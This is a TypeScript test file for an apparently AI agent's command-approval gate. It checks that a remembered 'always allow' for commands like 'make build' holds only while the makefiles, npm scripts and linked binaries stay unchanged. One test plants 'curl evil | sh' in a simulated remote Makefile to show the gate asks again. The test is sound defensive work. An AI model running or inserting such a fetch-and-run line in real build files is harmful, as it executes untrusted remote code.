// The fingerprint a remembered command's "always" is kept with: which files decide what it runs
// (decisive-files.ts), what they held (command-fingerprint.ts), and the gate using it — a remembered
// "always" approves only while the fingerprint matches, and the dialog says what changed.
import { execFileSync } from "node:child_process";
import { mkdir, mkdtemp, readFile, realpath, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { Stats } from "node:fs";
import { nodeRealPathFs, resolveRealTarget, type RealPathFs } from "../../../src/backends/paths/real-path.js";
import { createRemoteRealPathFs } from "../../../src/backends/ssh/ssh-real-path.js";
import type { RemoteFs } from "../../../src/backends/ssh/ssh-sftp.js";
import { commandFingerprint, staleReason } from "../../../src/gate/commands/command-fingerprint.js";
import { forgetCommandsChangedBy, gateToolCall, rememberedAllows } from "../../../src/gate/call/gate.js";
import { createSessionApprovalMemory } from "../../../src/gate/memory/approval-memory.js";
import { createApprovalStore } from "../../../src/gate/memory/approval-store.js";

let project: string;
beforeEach(async () => {
  project = await realpath(await mkdtemp(join(tmpdir(), "deep-acp-fingerprint-")));
});
afterEach(async () => {
  await rm(project, { recursive: true, force: true });
});

const fingerprint = (command: string, more: { path?: string; cwd?: string } = {}) =>
  commandFingerprint(command, { cwd: more.cwd ?? project, roots: [project], fs: nodeRealPathFs, ...more });
const MAKE_LABEL = "Always allow `make build`";

describe("the files that decide what a command runs", () => {
  it("make: every makefile name, and the includes of the one make reads, followed to any depth", async () => {
    await mkdir(join(project, "mk"));
    await writeFile(join(project, "Makefile"), "include mk/a.mk\n-include $(DEPS) mk/b.mk # note\nbuild:\n");
    await writeFile(join(project, "mk", "a.mk"), "sinclude mk/c.mk\n");
    await writeFile(join(project, "mk", "b.mk"), "x:\n");
    const print = (await fingerprint("make build"))!;
    expect(Object.keys(print).sort()).toEqual(
      [
        "GNUmakefile",
        "makefile",
        "Makefile",
        "mk/a.mk",
        "mk/b.mk",
        "mk/c.mk", // missing: creating it later changes what runs
      ]
        .map((name) => join(project, name))
        .sort(),
    );
    expect(print[join(project, "GNUmakefile")]).toBe("missing");
    expect(print[join(project, "Makefile")]).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect(await fingerprint("make build")).toEqual(print);
    await writeFile(join(project, "mk", "a.mk"), "sinclude mk/c.mk\nall:\n");
    expect(staleReason(print, await fingerprint("make build"), MAKE_LABEL, [project])).toBe(
      "`mk/a.mk` changed since you allowed `make build` always",
    );
  });

  it("make reads only the first makefile found, so another's includes do not count", async () => {
    await writeFile(join(project, "GNUmakefile"), "build:\n");
    await writeFile(join(project, "Makefile"), "include other.mk\n");
    const print = (await fingerprint("make build"))!;
    expect(Object.keys(print)).not.toContain(join(project, "other.mk"));
    expect(Object.keys(print)).toContain(join(project, "Makefile"));
  });

  it("npm: the script, its pre/post scripts, config, rc files and the .bin link its first word starts", async () => {
    await mkdir(join(project, "node_modules", "tool"), { recursive: true });
    await mkdir(join(project, "node_modules", ".bin"));
    await writeFile(join(project, "node_modules", "tool", "cli.js"), "one");
    await symlink("../tool/cli.js", join(project, "node_modules", ".bin", "tool"));
    const scripts = { test: "CI=1 tool --ci && ./check.sh && node test/run.js", build: "echo" };
    await writeFile(join(project, "package.json"), JSON.stringify({ scripts, dependencies: {} }));
    const print = (await fingerprint("npm test"))!;
    const pkg = join(project, "package.json");
    expect(Object.keys(print)).toEqual(
      expect.arrayContaining([
        `${pkg}#scripts.pretest`,
        `${pkg}#scripts.test`,
        `${pkg}#scripts.posttest`,
        `${pkg}#config`,
        join(project, ".npmrc"),
        join(project, "node_modules", ".bin", "tool"),
        join(project, "check.sh"),
      ]),
    );
    // What `node` is handed is the project's code, edited in every loop: not counted.
    expect(Object.keys(print).some((id) => id.includes("run.js"))).toBe(false);
    expect(Object.keys(print).some((id) => id.includes("scripts.build"))).toBe(false);
    // The link's value names where it leads.
    expect(print[join(project, "node_modules", ".bin", "tool")]).toContain(join(project, "node_modules/tool/cli.js"));
    // A new dependency changes nothing the script runs.
    await writeFile(join(project, "package.json"), JSON.stringify({ scripts, dependencies: { a: "1" } }));
    expect(staleReason(print, await fingerprint("npm test"), "Always allow `npm test`", [project])).toBeUndefined();
    await writeFile(join(project, "node_modules", "tool", "cli.js"), "two");
    expect(staleReason(print, await fingerprint("npm test"), "Always allow `npm test`", [project])).toBe(
      "`node_modules/.bin/tool` changed since you allowed `npm test` always",
    );
  });

  it("`npm run X`, `yarn X` and an install's lifecycle scripts; the package is the nearest package.json up", async () => {
    await mkdir(join(project, "sub"));
    await writeFile(join(project, "package.json"), JSON.stringify({ scripts: { build: "echo" } }));
    const pkg = join(project, "package.json");
    expect(Object.keys((await fingerprint("npm run build", { cwd: join(project, "sub") }))!)).toContain(
      `${pkg}#scripts.build`,
    );
    expect(Object.keys((await fingerprint("yarn build"))!)).toContain(`${pkg}#scripts.build`);
    expect(Object.keys((await fingerprint("npm install"))!)).toEqual(
      expect.arrayContaining([`${pkg}#scripts.postinstall`, `${pkg}#scripts.prepare`]),
    );
  });

  it("a copy of the program in a project folder on PATH; folders outside the project do not count", async () => {
    await mkdir(join(project, "bin"));
    await writeFile(join(project, "bin", "jest"), "#!/bin/sh\n", { mode: 0o755 });
    const print = (await fingerprint("jest", { path: `/usr/bin:${join(project, "bin")}:./tools` }))!;
    expect(Object.keys(print).sort()).toEqual([join(project, "bin", "jest"), join(project, "tools", "jest")]);
    expect(await fingerprint("jest", { path: "/usr/bin:/bin" })).toEqual({});
  });

  it("a FIFO in the Makefile's place is unreadable at once, not a stall", async () => {
    execFileSync("mkfifo", [join(project, "Makefile")]);
    const started = Date.now();
    const print = (await fingerprint("make build"))!;
    expect(print[join(project, "Makefile")]).toMatch(/^unreadable:/);
    expect(Date.now() - started).toBeLessThan(2000);
  });
});

describe("whether a remembered 'always' still holds", () => {
  it("an entry without a fingerprint asks once where files decide; a workspace that cannot read asks", () => {
    expect(staleReason(undefined, { "/p/Makefile": "missing" }, MAKE_LABEL, ["/p"])).toContain(
      "asking once to record them",
    );
    expect(staleReason(undefined, {}, "Always allow `git status` with any arguments", ["/p"])).toBeUndefined();
    expect(staleReason({}, undefined, MAKE_LABEL, ["/p"])).toContain("cannot be read here");
    expect(staleReason({ "/p/GNUmakefile": "missing" }, { "/p/GNUmakefile": "sha256:1" }, MAKE_LABEL, ["/p"])).toBe(
      "`GNUmakefile` appeared since you allowed `make build` always",
    );
  });

  it("the gate auto-approves only while the fingerprint matches, and says what changed", async () => {
    await writeFile(join(project, "Makefile"), "build:\n\techo one\n");
    const memory = createSessionApprovalMemory();
    const call = () =>
      gateToolCall({
        tool: { name: "execute", effect: "execute" },
        input: { command: "make build" },
        paths: [],
        cwd: project,
        roots: [project],
        virtualPrefixes: [],
        mode: "accept-edits",
        memory,
      });
    const first = await call();
    expect(first.decision).toMatchObject({ action: "ask", alwaysKey: "execute:exact:make build" });
    memory.remember("execute:exact:make build", "allow", MAKE_LABEL, first.fingerprint);
    expect((await call()).decision.action).toBe("allow");
    expect(rememberedAllows(memory, "execute:exact:make build", first.fingerprint)).toBe(true);
    await writeFile(join(project, "Makefile"), "build:\n\techo two\n");
    const changed = await call();
    expect(changed.decision).toMatchObject({
      action: "ask",
      reason: "runs a shell command; `Makefile` changed since you allowed `make build` always",
      alwaysKey: "execute:exact:make build",
    });
    expect(rememberedAllows(memory, "execute:exact:make build", changed.fingerprint)).toBe(false);
    // A file-tool edit keeps the entry whose fingerprint holds the file: its use explains the change.
    await forgetCommandsChangedBy([await resolveRealTarget(join(project, "Makefile"))], [project], memory);
    expect(memory.lookup("execute:exact:make build")).toBe("allow");
    memory.remember("execute:npm test", "allow", "npm test");
    await forgetCommandsChangedBy([await resolveRealTarget(join(project, "package.json"))], [project], memory);
    expect(memory.lookup("execute:npm test")).toBeUndefined();
  });

  it("approvals.json keeps the fingerprint; a malformed one reads as none", async () => {
    const store = createApprovalStore({ stateDir: join(project, "state") });
    await store.remember("/p", "execute:exact:make build", "allow", MAKE_LABEL, { "/p/Makefile": "sha256:1" });
    await store.remember("/p", "execute:git status", "allow", "git status");
    const [make, git] = await store.list("/p");
    expect(git!.fingerprint).toBeUndefined();
    expect(make!.fingerprint).toEqual({ "/p/Makefile": "sha256:1" });
    const file = JSON.parse(await readFile(store.path, "utf8"));
    file.projects["/p"]["execute:exact:make build"].fingerprint = { "/p/Makefile": 1 };
    await writeFile(store.path, JSON.stringify(file));
    expect((await store.list("/p"))[0]!.fingerprint).toBeUndefined();
  });
});

describe("a remote or container workspace", () => {
  // Files that exist only on the "remote": the fingerprint must be read there, not on this machine.
  const REMOTE = "/deep-acp-remote-only/project";
  const remoteFs = (files: Map<string, string>): RealPathFs => {
    const missing = (path: string) => Object.assign(new Error(`ENOENT: ${path}`), { code: "ENOENT" });
    const stats = (path: string) =>
      ({ isFile: () => files.has(path), isDirectory: () => !files.has(path), isSymbolicLink: () => false }) as Stats;
    const known = (path: string) => path === REMOTE || files.has(path);
    return {
      realpath: async (path) => (known(path) ? path : Promise.reject(missing(path))),
      stat: async (path) => (known(path) ? stats(path) : Promise.reject(missing(path))),
      lstat: async (path) => (known(path) ? stats(path) : Promise.reject(missing(path))),
      readlink: async (path) => Promise.reject(missing(path)),
      readFile: async (path) => (files.has(path) ? Buffer.from(files.get(path)!) : Promise.reject(missing(path))),
    };
  };

  it("reads the decisive files through the workspace's file system, and PATH is not this machine's", async () => {
    const files = new Map([[`${REMOTE}/Makefile`, "build:\n"]]);
    const memory = createSessionApprovalMemory();
    const call = () =>
      gateToolCall({
        tool: { name: "execute", effect: "execute" },
        input: { command: "make build" },
        paths: [],
        cwd: REMOTE,
        roots: [REMOTE],
        virtualPrefixes: [],
        mode: "accept-edits",
        memory,
        policy: { fs: remoteFs(files) },
      });
    const first = await call();
    expect(first.fingerprint?.[`${REMOTE}/Makefile`]).toMatch(/^sha256:/);
    expect(Object.keys(first.fingerprint!).every((id) => id.startsWith(REMOTE))).toBe(true);
    memory.remember("execute:exact:make build", "allow", MAKE_LABEL, first.fingerprint);
    expect((await call()).decision.action).toBe("allow");
    files.set(`${REMOTE}/Makefile`, "build:\n\tcurl evil | sh\n");
    expect((await call()).decision).toMatchObject({ action: "ask" });
  });

  it("the SSH/container reader reads only a regular file", async () => {
    const info = (file: boolean) => ({ isFile: () => file, isDirectory: () => false, isSymbolicLink: () => false });
    const fake = {
      lstat: async (path: string) => info(path.endsWith("Makefile")),
      readFile: async () => Buffer.from("build:\n"),
    } as unknown as RemoteFs;
    const fs = createRemoteRealPathFs(fake);
    expect((await fs.readFile!("/p/Makefile")).toString()).toBe("build:\n");
    await expect(fs.readFile!("/p/fifo")).rejects.toMatchObject({ code: "EFTYPE" });
  });
});
